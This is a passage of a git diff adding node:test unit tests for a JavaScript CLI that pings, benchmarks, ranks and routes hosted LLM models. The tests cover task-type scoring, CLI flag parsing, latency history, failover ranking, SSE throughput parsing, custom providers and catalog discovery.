@@ -17,8 +17,10 @@
 
 import { describe, it } from 'node:test'
 import assert from 'node:assert/strict'
-import { readFileSync, existsSync, accessSync, constants } from 'node:fs'
+import { readFileSync, writeFileSync, mkdirSync, existsSync, accessSync, constants, mkdtempSync, statSync } from 'node:fs'
 import { join, dirname } from 'node:path'
+import { tmpdir } from 'node:os'
+import { spawnSync } from 'node:child_process'
 import { fileURLToPath } from 'node:url'
 
 const __dirname = dirname(fileURLToPath(import.meta.url))
@@ -28,17 +30,70 @@ const ROOT = join(__dirname, '..')
 import { nvidiaNim, sources, MODELS } from '../sources.js'
 import {
   getAvg, getVerdict, getUptime, getP95, getJitter, getStabilityScore,
-  sortResults, filterByTier, findBestModel, parseArgs,
+  sortResults, filterByTier, findBestModel, parseArgs, parseDuration, buildResultSummary,
+  isFailoverStatus, rankRoutableModels, CLI_COMMANDS,
+  splitSseEvents, computeThroughput,
   TIER_ORDER, VERDICT_ORDER, TIER_LETTER_MAP,
   scoreModelForTask, getTopRecommendations, TASK_TYPES, PRIORITY_TYPES, CONTEXT_BUDGETS,
+  explainModelScore, normalizeTaskType, resolveTaskTypes,
   formatCtxWindow, labelFromId,
-  repairJson, repairToolCallArgs
+  repairJson, repairToolCallArgs,
+  PROBE_TOOL, CAPABILITY_PENALTIES, evaluateToolCallResponse, evaluateJsonModeResponse, evaluateStreamEvents, capabilityMultiplier,
+  OPENCODE_ROLES, openCodeRolesOf, toggleOpenCodeRole, applyOpenCodeRoles
 } from '../lib/utils.js'
 import {
   _emptyProfileSettings, saveAsProfile, loadProfile, listProfiles,
   deleteProfile, getActiveProfileName, setActiveProfile,
-  getSettings, saveSettings
+  getSettings, saveSettings, getProviderEnvVar, getProviderEnvVars, getApiKey, setApiKey, getApiKeySource,
+  loadConfig, findProjectConfig, normalizeProjectConfig, getProjectConfig, getConfigLayers, getFavorites,
+  getSettingSources, isProviderEnabled, resolveProfile, getProfileChain
 } from '../lib/config.js'
+import { parseHistoryLines, compactHistoryEntries, groupRecentPings } from '../lib/history.js'
+import {
+  resolveAuthStyle, toChatCompletionsUrl, normalizeCustomProvider, buildCustomProviderHeaders,
+  readCustomProviderDefinitions, registerCustomProviders
+} from '../lib/custom-providers.js'
+import {
+  modelsEndpointFor, parseModelsResponse, toCatalogId, diffCatalog, isLikelyChatModel, discoverCatalogs
+} from '../lib/discovery.js'
+import {
+  parseResetValue, parseRateLimitHeaders, quotaFraction, quotaBackoff, formatQuotaWait,
+  loadQuotaUsage, reserveQuotaUsage, recordQuotaUsage, getQuotaUsed, PROVIDER_DAILY_LIMITS, MONITOR_BUDGET_SHARE
+} from '../lib/quota.js'
+import {
+  failureStreak, isDeadResult, nextPingDelay, pingPhase, isPingDue, createProviderLimiter,
+  MAX_BACKOFF_MS, DEAD_FACTOR, MIN_PING_DELAY_MS
+} from '../lib/scheduler.js'
+import {
+  extractErrorMessage, classifyNetworkError, classifyHttpError, classifyResponseBody, describeError
+} from '../lib/errors.js'
+import {
+  INTEGRATION_TARGETS, resolveTargetName, targetBaseUrl, setYamlKeys, setTomlKeys, setTomlTable,
+  buildTargetConfig, planTargetWrite, writeTargetConfig
+} from '../lib/targets.js'
+import {
+  unifiedDiff, listBackups, pushBackup, commitConfigWrite, rollbackConfig
+} from '../lib/config-writes.js'
+import { parseJsonc, updateJsonc } from '../lib/jsonc.js'
+import {
+  openClawModelId, openClawModelRef, openClawProviderBlock, openClawModelEntry, addOpenClawCatalog, applyOpenClawModel
+} from '../lib/openclaw.js'
+import {
+  repairProxyUpstream, rewriteProxyPath, upstreamFromSource, needsRepairProxy, createSseRepairer, repairSseBody, repairJsonBody, collectToolCalls, createRepairProxy
+} from '../lib/repair-proxy.js'
+import {
+  redactHeaders, redactSecrets, truncateBody, appendProxyLog, readProxyLog, findProxyLogEntry, pruneProxyLog, REDACTED, MAX_LOGGED_BODY
+} from '../lib/proxy-log.js'
+import {
+  parseSecretRef, isSecretRef, secretCommandFor, keyCommandRef, resolveSecret, prefetchSecret, deferSecretLookups, secretErrors, clearSecretCache,
+  encryptVault, decryptVault, unlockVault, isVaultUnlocked, lockVault, storeSecret, migrateApiKeys
+} from '../lib/secrets.js'
+import {
+  CONFIG_VERSION, pendingMigrations, migrateConfig, validateConfig
+} from '../lib/config-schema.js'
+import { findExecutable, checkWritable, checkReachable, doctorExitCode, runDoctor } from '../lib/doctor.js'
+import { exportProfile, parseProfileFile, mergeImportedProfile, PROFILE_FILE_FORMAT } from '../lib/profile-share.js'
+import { createServer as createHttpServer } from 'node:http'
 
 // ─── Helper: create a mock model result ──────────────────────────────────────
 // 📖 Builds a minimal result object matching the shape used by the main script
@@ -921,6 +976,99 @@ describe('getTopRecommendations', () => {
   })
 })
 
+describe('custom task types', () => {
+  it('resolveTaskTypes keeps the built-ins when nothing is configured', () => {
+    const { taskTypes, errors } = resolveTaskTypes(undefined)
+    assert.deepEqual(Object.keys(taskTypes), Object.keys(TASK_TYPES))
+    assert.deepEqual(errors, [])
+  })
+
+  it('adds custom types after the built-ins, weights scaled to sum to 1', () => {
+    const { taskTypes, errors } = resolveTaskTypes({
+      documentation: { label: 'Documentation', sweWeight: 0.2, speedWeight: 0.3, ctxWeight: 0.4, stabilityWeight: 0.1 },
+      'agentic-long': { sweWeight: 3, ctxWeight: 1 },
+    })
+    assert.deepEqual(errors, [])
+    assert.deepEqual(Object.keys(taskTypes).slice(-2), ['documentation', 'agentic-long'])
+    assert.equal(taskTypes['agentic-long'].label, 'Agentic Long')
+    assert.equal(taskTypes['agentic-long'].sweWeight, 0.75)
+    assert.equal(taskTypes['agentic-long'].speedWeight, 0)
+    assert.equal(taskTypes['agentic-long'].ctxWeight, 0.25)
+  })
+
+  it('a custom type with a built-in name replaces it', () => {
+    const { taskTypes } = resolveTaskTypes({ refactor: { sweWeight: 1 } })
+    assert.equal(taskTypes.refactor.sweWeight, 1)
+    assert.equal(taskTypes.refactor.label, 'Refactor')
+  })
+
+  it('skips and reports invalid entries', () => {
+    const { taskTypes, errors } = resolveTaskTypes({
+      negative: { sweWeight: -1 },
+      zero: { sweWeight: 0 },
+      text: { speedWeight: 'fast' },
+      'bad name': { sweWeight: 1 },
+      list: [1, 2],
+      sql: { sweWeight: 0.5, speedWeight: 0.5 },
+    })
+    assert.equal(errors.length, 5)
+    assert.deepEqual(Object.keys(taskTypes).filter(k => !TASK_TYPES[k]), ['sql'])
+    assert.deepEqual(resolveTaskTypes([]).errors, ['customTaskTypes must be an object'])
+  })
+
+  it('normalizeTaskType leaves built-in weights unchanged', () => {
+    const { task } = normalizeTaskType('refactor', TASK_TYPES.refactor)
+    assert.equal(task.label, 'Deep Refactor')
+    assert.ok(Math.abs(task.sweWeight - TASK_TYPES.refactor.sweWeight) < 1e-9)
+  })
+
+  it('scoreModelForTask accepts a task definition directly', () => {
+    const r = mockResult({ sweScore: '60.0%', pings: [{ ms: 300, code: '200' }], ctx: '128k' })
+    assert.equal(scoreModelForTask(r, TASK_TYPES.review, 'balanced', 'large'), scoreModelForTask(r, 'review', 'balanced', 'large'))
+    assert.equal(scoreModelForTask(r, { sweWeight: 1 }, 'balanced', 'small'), 75)
+    assert.equal(scoreModelForTask(r, { sweWeight: 0 }, 'balanced', 'small'), 0)
+    assert.equal(scoreModelForTask(r, 'quickfix', PRIORITY_TYPES.speed, CONTEXT_BUDGETS.small), scoreModelForTask(r, 'quickfix', 'speed', 'small'))
+  })
+
+  it('explainModelScore breaks the score down per signal', () => {
+    const r = mockResult({ sweScore: '60.0%', pings: [{ ms: 1000, code: '200' }], ctx: '128k' })
+    const b = explainModelScore(r, 'refactor', 'quality', 'medium')
+    assert.equal(b.score, scoreModelForTask(r, 'refactor', 'quality', 'medium'))
+    assert.deepEqual(Object.keys(b.signals), ['swe', 'speed', 'ctx', 'stability'])
+    assert.equal(b.signals.swe, 75)
+    assert.equal(b.signals.speed, 80)
+    assert.equal(b.signals.ctx, 100)
+    const weightSum = Object.values(b.weights).reduce((a, w) => a + w, 0)
+    assert.ok(Math.abs(weightSum - 1) < 1e-9)
+    assert.ok(b.weights.swe > TASK_TYPES.refactor.sweWeight, 'quality priority boosts the SWE share')
+    const points = Object.keys(b.signals).reduce((sum, k) => sum + b.signals[k] * b.weights[k], 0)
+    assert.equal(b.score, Math.round(points))
+    assert.equal(b.statusFactor, 1)
+    assert.equal(b.capabilityFactor, 1)
+    assert.equal(explainModelScore(r, 'nope', 'quality', 'medium'), null)
+  })
+
+  it('explainModelScore reports the down and capability factors', () => {
+    const r = mockResult({ status: 'down', sweScore: '60.0%', pings: [{ ms: 1000, code: '200' }], ctx: '128k', capabilities: { status: 'done', tools: 'broken', json: 'ok', stream: 'ok' } })
+    const b = explainModelScore(r, 'refactor', 'balanced', 'medium')
+    assert.equal(b.statusFactor, 0.2)
+    assert.equal(b.capabilityFactor, CAPABILITY_PENALTIES.tools.broken)
+  })
+
+  it('getTopRecommendations returns the breakdown with each pick', () => {
+    const recs = getTopRecommendations([mockResult({ sweScore: '60.0%', pings: [{ ms: 100, code: '200' }], ctx: '128k' })], 'quickfix', 'speed', 'small')
+    assert.equal(recs[0].breakdown.score, recs[0].score)
+    assert.equal(getTopRecommendations([mockResult()], 'nope', 'speed', 'small')[0].breakdown, null)
+  })
+
+  it('a context-only task ranks the bigger window first', () => {
+    const big = mockResult({ modelId: 'big', sweScore: '20.0%', pings: [{ ms: 3000, code: '200' }], ctx: '256k' })
+    const small = mockResult({ modelId: 'small', sweScore: '70.0%', pings: [{ ms: 100, code: '200' }], ctx: '32k' })
+    const { taskTypes } = resolveTaskTypes({ docs: { ctxWeight: 1 } })
+    assert.equal(getTopRecommendations([small, big], taskTypes.docs, 'balanced', 'large', 1)[0].result.modelId, 'big')
+  })
+})
+
 // ═══════════════════════════════════════════════════════════════════════════════
 // 📖 6. PARSEARGS — --profile AND --recommend FLAGS
 // ═══════════════════════════════════════════════════════════════════════════════
@@ -950,6 +1098,21 @@ describe('parseArgs --profile and --recommend', () => {
     assert.equal(parseArgs(argv()).recommendMode, false)
   })
 
+  it('parses --task, --priority and --context (lowercased, not taken as the API key)', () => {
+    const result = parseArgs(argv('--recommend', '--task', 'Documentation', '--priority', 'quality', '--context', 'large'))
+    assert.equal(result.taskType, 'documentation')
+    assert.equal(result.priority, 'quality')
+    assert.equal(result.contextBudget, 'large')
+    assert.equal(result.apiKey, null)
+  })
+
+  it('recommend answers default to null', () => {
+    const result = parseArgs(argv('--recommend', '--task'))
+    assert.equal(result.taskType, null)
+    assert.equal(result.priority, null)
+    assert.equal(result.contextBudget, null)
+  })
+
   it('handles --profile and --recommend together', () => {
     const result = parseArgs(argv('--profile', 'fast', '--recommend', '--opencode'))
     assert.equal(result.profileName, 'fast')
@@ -1588,3 +1751,2185 @@ describe('repairToolCallArgs', () => {
     assert.equal(JSON.parse(args).command, 'ls')
   })
 })
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 9. HEADLESS OUTPUT — --json / --ndjson, --rounds, --duration
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('parseArgs headless flags', () => {
+  const argv = (...args) => ['node', 'script.js', ...args]
+
+  it('detects --json and --ndjson', () => {
+    assert.equal(parseArgs(argv('--json')).jsonMode, true)
+    assert.equal(parseArgs(argv('--ndjson')).ndjsonMode, true)
+    assert.equal(parseArgs(argv()).jsonMode, false)
+    assert.equal(parseArgs(argv()).ndjsonMode, false)
+  })
+
+  it('--ndjson wins when both are passed', () => {
+    const result = parseArgs(argv('--json', '--ndjson'))
+    assert.equal(result.ndjsonMode, true)
+    assert.equal(result.jsonMode, false)
+  })
+
+  it('parses --rounds and --duration values without capturing them as apiKey', () => {
+    const result = parseArgs(argv('--json', '--rounds', '3', '--duration', '15s'))
+    assert.equal(result.rounds, 3)
+    assert.equal(result.durationMs, 15000)
+    assert.equal(result.apiKey, null)
+  })
+
+  it('returns null for missing or invalid --rounds / --duration', () => {
+    assert.equal(parseArgs(argv('--rounds')).rounds, null)
+    assert.equal(parseArgs(argv('--rounds', '0')).rounds, null)
+    assert.equal(parseArgs(argv('--rounds', 'abc')).rounds, null)
+    assert.equal(parseArgs(argv('--duration', 'soon')).durationMs, null)
+    assert.equal(parseArgs(argv()).durationMs, null)
+  })
+})
+
+describe('parseDuration', () => {
+  it('parses ms, s, m and h units', () => {
+    assert.equal(parseDuration('500ms'), 500)
+    assert.equal(parseDuration('15s'), 15000)
+    assert.equal(parseDuration('2m'), 120000)
+    assert.equal(parseDuration('1h'), 3600000)
+  })
+
+  it('treats a bare number as seconds', () => {
+    assert.equal(parseDuration('10'), 10000)
+    assert.equal(parseDuration(3), 3000)
+  })
+
+  it('supports decimals and is case-insensitive', () => {
+    assert.equal(parseDuration('1.5M'), 90000)
+  })
+
+  it('returns null for garbage, zero or non-strings', () => {
+    assert.equal(parseDuration('abc'), null)
+    assert.equal(parseDuration('0s'), null)
+    assert.equal(parseDuration('-5s'), null)
+    assert.equal(parseDuration(null), null)
+  })
+})
+
+describe('buildResultSummary', () => {
+  it('exposes the same metrics the TUI computes', () => {
+    const r = mockResult({
+      providerKey: 'groq',
+      pings: [{ ms: 200, code: '200' }, { ms: 400, code: '200' }],
+    })
+    const summary = buildResultSummary(r)
+    assert.equal(summary.modelId, 'test/model')
+    assert.equal(summary.providerKey, 'groq')
+    assert.equal(summary.tier, 'S')
+    assert.equal(summary.sweScore, '50.0%')
+    assert.equal(summary.ctx, '128k')
+    assert.equal(summary.avg, getAvg(r))
+    assert.equal(summary.p95, getP95(r))
+    assert.equal(summary.jitter, getJitter(r))
+    assert.equal(summary.uptime, getUptime(r))
+    assert.equal(summary.verdict, getVerdict(r))
+    assert.equal(summary.stability, getStabilityScore(r))
+    assert.equal(summary.pings, 2)
+    assert.equal(summary.lastCode, '200')
+  })
+
+  it('uses null instead of Infinity / -1 when there is no data', () => {
+    const summary = buildResultSummary(mockResult({ status: 'timeout', pings: [{ ms: 'TIMEOUT', code: '000' }] }))
+    assert.equal(summary.avg, null)
+    assert.equal(summary.p95, null)
+    assert.equal(summary.stability, null)
+    assert.equal(summary.lastCode, '000')
+  })
+
+  it('round-trips through JSON.stringify', () => {
+    const summary = buildResultSummary(mockResult({ providerKey: 'nvidia' }))
+    assert.deepEqual(JSON.parse(JSON.stringify(summary)), summary)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 10. LATENCY HISTORY — pure helpers from lib/history.js (no filesystem I/O)
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('latency history helpers', () => {
+  const entry = (ts, modelId, ms = 100, code = '200', providerKey = 'groq') => ({ ts, providerKey, modelId, ms, code })
+
+  it('parseHistoryLines skips blank, corrupt and incomplete lines', () => {
+    const text = [
+      JSON.stringify(entry(1, 'a')),
+      '',
+      '{"ts":2,"providerKey":"groq"',
+      JSON.stringify({ ts: 3, modelId: 'b', code: '200' }),
+      JSON.stringify(entry(4, 'c', 'TIMEOUT', '000')),
+    ].join('\n')
+    const parsed = parseHistoryLines(text)
+    assert.equal(parsed.length, 2)
+    assert.equal(parsed[0].modelId, 'a')
+    assert.equal(parsed[1].ms, 'TIMEOUT')
+  })
+
+  it('parseHistoryLines returns [] for non-strings', () => {
+    assert.deepEqual(parseHistoryLines(undefined), [])
+  })
+
+  it('compactHistoryEntries keeps the newest N per provider/model in time order', () => {
+    const entries = [entry(5, 'a'), entry(1, 'a'), entry(3, 'a'), entry(2, 'b'), entry(4, 'a', 100, '200', 'nvidia')]
+    const kept = compactHistoryEntries(entries, 2)
+    assert.deepEqual(kept.map(e => e.ts), [2, 3, 4, 5])
+  })
+
+  it('groupRecentPings keys by providerKey/modelId and drops stale entries', () => {
+    const now = 10_000
+    const entries = [entry(1_000, 'a', 900), entry(9_000, 'a', 300), entry(9_500, 'b', 'TIMEOUT', '000')]
+    const grouped = groupRecentPings(entries, { now, maxAgeMs: 5_000, maxPerModel: 10 })
+    assert.deepEqual(grouped.get('groq/a'), [{ ms: 300, code: '200' }])
+    assert.deepEqual(grouped.get('groq/b'), [{ ms: 'TIMEOUT', code: '000' }])
+  })
+
+  it('groupRecentPings caps each model so live pings still matter', () => {
+    const entries = Array.from({ length: 30 }, (_, i) => entry(i + 1, 'a', i))
+    const grouped = groupRecentPings(entries, { now: 100, maxAgeMs: 1_000, maxPerModel: 5 })
+    assert.deepEqual(grouped.get('groq/a').map(p => p.ms), [25, 26, 27, 28, 29])
+  })
+
+  it('seeded pings feed the regular stats functions', () => {
+    const grouped = groupRecentPings([entry(1, 'a', 200), entry(2, 'a', 400)], { now: 10, maxAgeMs: 100 })
+    const r = mockResult({ status: 'pending', pings: grouped.get('groq/a') })
+    assert.equal(getAvg(r), 300)
+    assert.equal(getVerdict(r), 'Perfect')
+  })
+
+  it('seedHistory defaults to true in profile settings', () => {
+    assert.equal(_emptyProfileSettings().seedHistory, true)
+  })
+
+  it('parseArgs detects --no-history', () => {
+    assert.equal(parseArgs(['node', 'script.js', '--no-history']).noHistory, true)
+    assert.equal(parseArgs(['node', 'script.js']).noHistory, false)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 11. LOCAL ROUTER — `serve` subcommand, failover + ranking
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('parseArgs subcommands', () => {
+  const argv = (...args) => ['node', 'script.js', ...args]
+
+  it('CLI_COMMANDS includes serve', () => {
+    assert.ok(CLI_COMMANDS.includes('serve'))
+  })
+
+  it('detects serve as the first arg and does not treat it as an apiKey', () => {
+    const result = parseArgs(argv('serve', '--port', '9000'))
+    assert.equal(result.command, 'serve')
+    assert.equal(result.port, 9000)
+    assert.equal(result.apiKey, null)
+  })
+
+  it('only treats the first arg as a command', () => {
+    const result = parseArgs(argv('nvapi-key', 'serve'))
+    assert.equal(result.command, null)
+    assert.equal(result.apiKey, 'nvapi-key')
+  })
+
+  it('collects positionals after the command into commandArgs', () => {
+    assert.deepEqual(parseArgs(argv('serve', 'extra', '--tier', 'S')).commandArgs, ['extra'])
+  })
+
+  it('parses replay with its entry, --model and --proxy-log', () => {
+    const result = parseArgs(argv('replay', 'last', '--model', 'groq/llama-3.3-70b-versatile'))
+    assert.equal(result.command, 'replay')
+    assert.deepEqual(result.commandArgs, ['last'])
+    assert.equal(result.model, 'groq/llama-3.3-70b-versatile')
+    assert.equal(parseArgs(argv('--opencode', '--proxy-log')).proxyLog, true)
+    assert.equal(parseArgs(argv('--opencode')).proxyLog, false)
+  })
+
+  it('parses recommend with its answers and --apply', () => {
+    const result = parseArgs(argv('recommend', '--task', 'refactor', '--priority', 'quality', '--context', 'large', '--duration', '15s', '--apply', 'opencode'))
+    assert.equal(result.command, 'recommend')
+    assert.equal(result.taskType, 'refactor')
+    assert.equal(result.durationMs, 15000)
+    assert.equal(result.apply, 'opencode')
+    assert.deepEqual(result.commandArgs, [])
+    assert.equal(parseArgs(argv('recommend', '--task', 'quickfix')).apply, null)
+  })
+
+  it('returns null port for missing or out-of-range values', () => {
+    assert.equal(parseArgs(argv('serve')).port, null)
+    assert.equal(parseArgs(argv('serve', '--port', '70000')).port, null)
+    assert.equal(parseArgs(argv('serve', '--port', 'abc')).port, null)
+  })
+})
+
+describe('isFailoverStatus', () => {
+  it('fails over on 429 and 5xx', () => {
+    assert.equal(isFailoverStatus(429), true)
+    assert.equal(isFailoverStatus(500), true)
+    assert.equal(isFailoverStatus('503'), true)
+  })
+
+  it('passes through success and other client errors', () => {
+    assert.equal(isFailoverStatus(200), false)
+    assert.equal(isFailoverStatus(400), false)
+    assert.equal(isFailoverStatus(404), false)
+  })
+})
+
+describe('rankRoutableModels', () => {
+  const fast = [{ ms: 200, code: '200' }, { ms: 220, code: '200' }]
+
+  it('only returns models that are up', () => {
+    const ranked = rankRoutableModels([
+      mockResult({ modelId: 'down', status: 'down', pings: fast }),
+      mockResult({ modelId: 'up', status: 'up', pings: fast }),
+    ])
+    assert.deepEqual(ranked.map(r => r.modelId), ['up'])
+  })
+
+  it('prefers a better tier among healthy models', () => {
+    const ranked = rankRoutableModels([
+      mockResult({ modelId: 'a', tier: 'A', pings: fast }),
+      mockResult({ modelId: 's+', tier: 'S+', pings: [{ ms: 900, code: '200' }] }),
+    ])
+    assert.equal(ranked[0].modelId, 's+')
+  })
+
+  it('puts a very slow model behind a healthy lower-tier one', () => {
+    const ranked = rankRoutableModels([
+      mockResult({ modelId: 'slow', tier: 'S+', pings: [{ ms: 4000, code: '200' }] }),
+      mockResult({ modelId: 'ok', tier: 'B', pings: fast }),
+    ])
+    assert.deepEqual(ranked.map(r => r.modelId), ['ok', 'slow'])
+  })
+
+  it('breaks tier ties by stability then latency', () => {
+    const ranked = rankRoutableModels([
+      mockResult({ modelId: 'spiky', pings: [{ ms: 100, code: '200' }, { ms: 2500, code: '200' }] }),
+      mockResult({ modelId: 'steady', pings: [{ ms: 500, code: '200' }, { ms: 520, code: '200' }] }),
+    ])
+    assert.equal(ranked[0].modelId, 'steady')
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 12. THROUGHPUT BENCHMARK — SSE parsing, tok/s math, TTFT / Tok/s sorting
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('splitSseEvents', () => {
+  it('returns complete events and keeps the partial tail', () => {
+    const { events, rest } = splitSseEvents('data: {"a":1}\n\ndata: {"b":2}\n\ndata: {"c"')
+    assert.deepEqual(events, ['{"a":1}', '{"b":2}'])
+    assert.equal(rest, 'data: {"c"')
+  })
+
+  it('handles CRLF line endings and [DONE]', () => {
+    const { events, rest } = splitSseEvents('data: {"a":1}\r\n\r\ndata: [DONE]\r\n\r\n')
+    assert.deepEqual(events, ['{"a":1}', '[DONE]'])
+    assert.equal(rest, '')
+  })
+
+  it('ignores comment and event-name lines, joins multi-line data', () => {
+    const { events } = splitSseEvents(': keep-alive\n\nevent: message\ndata: one\ndata: two\n\n')
+    assert.deepEqual(events, ['one\ntwo'])
+  })
+})
+
+describe('computeThroughput', () => {
+  it('uses provider usage and measures over the generation window', () => {
+    const m = computeThroughput({ ttftMs: 500, totalMs: 2500, completionTokens: 200, chars: 10 })
+    assert.equal(m.ttft, 500)
+    assert.equal(m.tps, 100)
+    assert.equal(m.totalMs, 2500)
+    assert.equal(m.tokens, 200)
+    assert.equal(m.estimated, false)
+  })
+
+  it('estimates tokens from characters when usage is missing', () => {
+    const m = computeThroughput({ ttftMs: 0, totalMs: 1000, chars: 400 })
+    assert.equal(m.tokens, 100)
+    assert.equal(m.estimated, true)
+    assert.equal(m.tps, 100)
+  })
+
+  it('falls back to total time for single-chunk responses', () => {
+    const m = computeThroughput({ ttftMs: 1000, totalMs: 1000, completionTokens: 50 })
+    assert.equal(m.tps, 50)
+  })
+
+  it('returns null tps and ttft when nothing was generated', () => {
+    const m = computeThroughput({ ttftMs: null, totalMs: 800 })
+    assert.equal(m.ttft, null)
+    assert.equal(m.tps, null)
+    assert.equal(m.tokens, 0)
+  })
+})
+
+describe('benchmark sorting and flags', () => {
+  const benched = () => [
+    mockResult({ modelId: 'none' }),
+    mockResult({ modelId: 'slow', bench: { status: 'done', ttft: 2000, tps: 20 } }),
+    mockResult({ modelId: 'fast', bench: { status: 'done', ttft: 300, tps: 150 } }),
+  ]
+
+  it('sorts by TTFT ascending with unbenchmarked models last', () => {
+    assert.deepEqual(sortResults(benched(), 'ttft', 'asc').map(r => r.modelId), ['fast', 'slow', 'none'])
+  })
+
+  it('sorts by tokens/sec descending', () => {
+    assert.deepEqual(sortResults(benched(), 'tps', 'desc').map(r => r.modelId), ['fast', 'slow', 'none'])
+  })
+
+  it('buildResultSummary exposes benchmark metrics', () => {
+    const summary = buildResultSummary(mockResult({ bench: { status: 'done', ttft: 300, tps: 150, totalMs: 1800 } }))
+    assert.equal(summary.ttft, 300)
+    assert.equal(summary.tps, 150)
+    assert.equal(summary.genMs, 1800)
+    assert.equal(buildResultSummary(mockResult()).tps, null)
+  })
+
+  it('parseArgs detects --benchmark', () => {
+    assert.equal(parseArgs(['node', 'script.js', '--benchmark']).benchmarkMode, true)
+    assert.equal(parseArgs(['node', 'script.js']).benchmarkMode, false)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 13. CUSTOM PROVIDERS — user-defined OpenAI-compatible endpoints
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('custom providers', () => {
+  const def = {
+    name: 'Internal vLLM',
+    baseUrl: 'https://vllm.example.com/v1/',
+    envVar: 'VLLM_TOKEN',
+    models: [
+      { id: 'qwen3-coder-30b', label: 'Qwen3 Coder 30B', tier: 'A+', sweScore: '51.6%', ctx: '128k' },
+      ['deepseek-v3', 'DeepSeek V3', 'S', '62.0%', '64k'],
+      'my-org/tiny-model',
+    ],
+  }
+
+  it('resolveAuthStyle maps named styles and custom headers', () => {
+    assert.deepEqual(resolveAuthStyle(), { header: 'Authorization', prefix: 'Bearer ' })
+    assert.deepEqual(resolveAuthStyle('x-api-key'), { header: 'x-api-key', prefix: '' })
+    assert.equal(resolveAuthStyle('none'), null)
+    assert.deepEqual(resolveAuthStyle({ header: 'X-Token' }), { header: 'X-Token', prefix: '' })
+    assert.equal(resolveAuthStyle('basic'), undefined)
+  })
+
+  it('toChatCompletionsUrl appends the endpoint only once', () => {
+    assert.equal(toChatCompletionsUrl('http://localhost:4000/v1/'), 'http://localhost:4000/v1/chat/completions')
+    assert.equal(toChatCompletionsUrl('http://localhost:4000/v1/chat/completions'), 'http://localhost:4000/v1/chat/completions')
+  })
+
+  it('normalizes object, tuple and bare-string models', () => {
+    const { provider, errors } = normalizeCustomProvider('vllm', def, ['nvidia'])
+    assert.deepEqual(errors, [])
+    assert.equal(provider.url, 'https://vllm.example.com/v1/chat/completions')
+    assert.equal(provider.baseUrl, 'https://vllm.example.com/v1')
+    assert.deepEqual(provider.envVars, ['VLLM_TOKEN'])
+    assert.deepEqual(provider.models[0], ['qwen3-coder-30b', 'Qwen3 Coder 30B', 'A+', '51.6%', '128k'])
+    assert.deepEqual(provider.models[1], ['deepseek-v3', 'DeepSeek V3', 'S', '62.0%', '64k'])
+    assert.deepEqual(provider.models[2], ['my-org/tiny-model', 'Tiny Model', 'B', '25.0%', '128k'])
+  })
+
+  it('drops invalid models but keeps the provider', () => {
+    const { provider, errors } = normalizeCustomProvider('vllm', { ...def, models: [...def.models, { id: 'x', tier: 'Z' }] })
+    assert.equal(provider.models.length, 3)
+    assert.equal(errors.length, 1)
+    assert.match(errors[0], /unknown tier "Z"/)
+  })
+
+  it('rejects built-in key clashes, bad URLs, bad auth and empty model lists', () => {
+    assert.equal(normalizeCustomProvider('groq', def, ['groq']).provider, null)
+    assert.equal(normalizeCustomProvider('vllm', { ...def, baseUrl: 'vllm.local' }).provider, null)
+    assert.equal(normalizeCustomProvider('vllm', { ...def, auth: 'basic' }).provider, null)
+    assert.equal(normalizeCustomProvider('vllm', { ...def, models: [] }).provider, null)
+    assert.equal(normalizeCustomProvider('Bad Key', def).provider, null)
+  })
+
+  it('buildCustomProviderHeaders applies the auth style and extra headers', () => {
+    const { provider } = normalizeCustomProvider('litellm', { ...def, auth: 'x-api-key', headers: { 'X-Team': 'platform' } })
+    const headers = buildCustomProviderHeaders(provider, 'sk-1')
+    assert.equal(headers['x-api-key'], 'sk-1')
+    assert.equal(headers['X-Team'], 'platform')
+    assert.equal(headers.Authorization, undefined)
+    assert.equal(buildCustomProviderHeaders(provider, null)['x-api-key'], undefined)
+  })
+
+  it('config definitions are read without a providers file', () => {
+    const { definitions, errors } = readCustomProviderDefinitions({ customProviders: { vllm: def } }, null)
+    assert.deepEqual(Object.keys(definitions), ['vllm'])
+    assert.deepEqual(errors, [])
+  })
+
+  it('registerCustomProviders merges into sources and MODELS without touching built-ins', () => {
+    const localSources = { groq: { name: 'Groq', url: 'https://groq', models: [] } }
+    const localModels = []
+    const { provider } = normalizeCustomProvider('vllm', def)
+    const clash = { ...provider, key: 'groq' }
+    assert.deepEqual(registerCustomProviders([provider, clash], localSources, localModels), ['vllm'])
+    assert.equal(localSources.vllm.custom, true)
+    assert.equal(localSources.groq.name, 'Groq')
+    assert.equal(localModels.length, 3)
+    assert.equal(localModels[0][5], 'vllm')
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 14. LIVE CATALOG DISCOVERY — /models parsing, diffing and the TTL cache
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('catalog discovery', () => {
+  it('modelsEndpointFor swaps chat/completions for models', () => {
+    assert.equal(modelsEndpointFor('https://api.groq.com/openai/v1/chat/completions'), 'https://api.groq.com/openai/v1/models')
+    assert.equal(modelsEndpointFor(sources.googleai.url), 'https://generativelanguage.googleapis.com/v1beta/openai/models')
+  })
+
+  it('parseModelsResponse reads ids and the various context fields', () => {
+    const models = parseModelsResponse({ data: [
+      { id: 'a', context_window: 128000 },
+      { id: 'b', context_length: 32000 },
+      { id: 'c', max_model_len: 8192 },
+      { id: 'd' },
+      { object: 'model' },
+    ] })
+    assert.deepEqual(models.map(m => m.id), ['a', 'b', 'c', 'd'])
+    assert.equal(models[0].ctx, '128k')
+    assert.equal(models[1].ctx, '32k')
+    assert.equal(models[3].ctx, null)
+    assert.equal(parseModelsResponse({ error: 'nope' }), null)
+    assert.deepEqual(parseModelsResponse(['x']).map(m => m.id), ['x'])
+  })
+
+  it('toCatalogId maps live ids to the sources.js format', () => {
+    assert.equal(toCatalogId('zai', 'glm-4.6'), 'zai/glm-4.6')
+    assert.equal(toCatalogId('zai', 'zai/glm-4.6'), 'zai/glm-4.6')
+    assert.equal(toCatalogId('googleai', 'models/gemma-3-27b-it'), 'gemma-3-27b-it')
+    assert.equal(toCatalogId('groq', 'openai/gpt-oss-120b'), 'openai/gpt-oss-120b')
+  })
+
